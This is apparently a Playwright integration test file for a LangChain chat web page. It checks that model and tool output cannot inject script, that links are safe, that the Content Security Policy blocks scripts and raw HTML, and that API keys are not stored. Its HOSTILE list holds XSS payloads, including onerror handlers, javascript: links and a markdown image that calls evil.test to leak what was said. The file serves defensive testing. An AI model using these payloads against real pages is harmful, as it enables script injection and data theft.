"""Nothing that a model or a tool says can do anything in the page."""

from __future__ import annotations

from collections.abc import AsyncIterator, Callable
from typing import Any

import pytest
from playwright.sync_api import expect

from langchain_sse_chat.serve.answer.parts import ToolRun
from langchain_sse_chat.testing import Reply, ScriptedServer
from tests.integration_tests.page.chat_page import ChatPage
from tests.integration_tests.page.conftest import Serve

Open = Callable[..., ChatPage]
HOSTILE = [
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[link](javascript:alert(1))",
    "[coded](java&#115;cript:alert(1))",
    "![picture](https://evil.test/?what=was-said)",
    '<a href="javascript:alert(1)" onclick="alert(1)">a</a>',
    "<style>*{display:none}</style>",
    "<svg onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "[own](/v1/models)",
]
MARKS = "script, style, img, svg, iframe, [onerror], [onclick], [onload]"


@pytest.mark.parametrize("hostile", HOSTILE)
def test_what_a_model_says_does_nothing(
    open_page: Open, url: str, upstream: ScriptedServer, hostile: str
) -> None:
    upstream.script(Reply.text([hostile, "\n\nend"]))
    page = open_page(url)
    requests: list[str] = []
    page.page.on("request", lambda request: requests.append(request.url))

    page.ask(hostile)

    expect(page.rendered).to_contain_text("end")
    assert page.log.locator(MARKS).count() == 0
    for link in page.rendered.locator("a").all():
        assert str(link.get_attribute("href")).startswith("https://")
        link.hover()
    assert [asked for asked in requests if not asked.startswith(url)] == []


def test_what_a_tool_says_does_nothing(open_page: Open, serve: Serve) -> None:
    hostile = "</script><script>alert(1)</script><img src=x onerror=alert(1)>"

    async def agent(messages: Any, request: Any) -> AsyncIterator[Any]:
        yield ToolRun("1", hostile, {"q": hostile})
        yield ToolRun("1", hostile, output=hostile)
        yield ToolRun("2", "t", {})
        yield ToolRun("2", "t", output=hostile, failed=True)
        yield "end"

    page = open_page(serve({"agent": agent}))
    page.ask("Hello")
    expect(page.rendered).to_have_text("end")
    for summary in page.answer.locator("summary").all():
        summary.click()
    expect(page.answer.locator(".value").nth(1)).to_have_text(f"Output{hostile}")
    assert page.log.locator(MARKS).count() == 0


def test_links_lead_out_of_the_page(
    open_page: Open, url: str, upstream: ScriptedServer
) -> None:
    upstream.script(Reply.text("[a](https://x.test/) <mailto:a@x.test>"))
    page = open_page(url)
    page.ask("Hello")
    links = page.rendered.locator("a")
    expect(links).to_have_count(2)
    for link in links.all():
        expect(link).to_have_attribute("target", "_blank")
        expect(link).to_have_attribute("rel", "noopener noreferrer")


def test_sources_and_files_are_checked_by_the_page_too(
    open_page: Open, serve: Serve
) -> None:
    # As a server of another kind, or a proxy, might send them.
    page = open_page(serve())
    picture = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="
    page.page.route(
        "**/chat",
        lambda route: route.fulfill(
            content_type="text/event-stream",
            body="".join(
                f"data: {data}\n\n"
                for data in (
                    '{"type":"start"}',
                    '{"type":"source-url","sourceId":"1","url":"https://a.test/","title":"A"}',
                    '{"type":"source-url","sourceId":"2","url":"javascript:alert(1)"}',
                    f'{{"type":"file","mediaType":"image/gif","url":"{picture}"}}',
                    '{"type":"file","mediaType":"image/png","url":"https://a.test/b.png"}',
                    '{"type":"unheard-of"}',
                    '{"type":"finish"}',
                    "[DONE]",
                )
            ),
        ),
    )
    page.ask("Hello")
    page.wait_for_end()
    links = [a.get_attribute("href") for a in page.answer.locator("a").all()]
    assert links == ["https://a.test/", "https://a.test/b.png"]
    expect(page.answer.locator("img")).to_have_count(1)
    expect(page.answer).to_contain_text("javascript:alert(1)")


def test_the_policy_holds_for_scripts_and_html(open_page: Open, url: str) -> None:
    page = open_page(url, "Content Security Policy|Trusted|TrustedHTML|violates")
    done = page.page.evaluate(
        """() => {
          const tried = {};
          const script = document.createElement("script");
          script.append("window.ran = true");
          try { document.body.append(script); } catch {}
          tried.script = window.ran ?? false;
          try { document.body.innerHTML = "<b>x</b>"; tried.html = true; }
          catch { tried.html = false; }
          return tried;
        }"""
    )
    assert done == {"script": False, "html": False}


def test_the_page_asks_for_a_key_and_keeps_it_in_the_tab(
    open_page: Open, serve: Serve
) -> None:
    page = open_page(serve(api_keys=["sk-right"]), "401")
    dialog = page.page.get_by_role("dialog", name="API key")
    field = dialog.get_by_label("API key", exact=True)
    expect(dialog).to_contain_text("The server needs an API key")
    field.fill("sk-wrong")
    field.press("Enter")
    expect(dialog).to_contain_text("does not accept this key")
    field.fill("sk-right")
    page.button("Use this key").click()
    expect(dialog).to_be_hidden()
    expect(page.page.get_by_label("Model", exact=True)).to_have_value("m")

    page.ask("Hello")
    expect(page.rendered).to_have_text("You said: Hello")
    page.page.reload()
    expect(page.rendered).to_have_text("You said: Hello")
    expect(dialog).to_be_hidden()
    assert "sk-right" not in page.page.content()
    assert page.page.evaluate("() => JSON.stringify(localStorage)") == "{}"
    expect(page.button("API key")).to_be_visible()

    stranger = open_page(page.page.url, "401")
    expect(stranger.page.get_by_role("dialog", name="API key")).to_be_visible()


def test_without_a_key_the_refusal_is_told(open_page: Open, serve: Serve) -> None:
    page = open_page(serve(api_keys=["sk-right"]), "401")
    page.button("Cancel").click()
    expect(page.page.get_by_role("alert")).to_contain_text("needs an API key")
    page.ask("Hello")
    page.button("Cancel").click()
    expect(page.notice).to_contain_text("needs an API key")
    page.button("Retry").click()
    dialog = page.page.get_by_role("dialog", name="API key")
    dialog.get_by_label("API key", exact=True).fill("sk-right")
    page.button("Use this key").click()
    expect(page.rendered).to_have_text("You said: Hello")
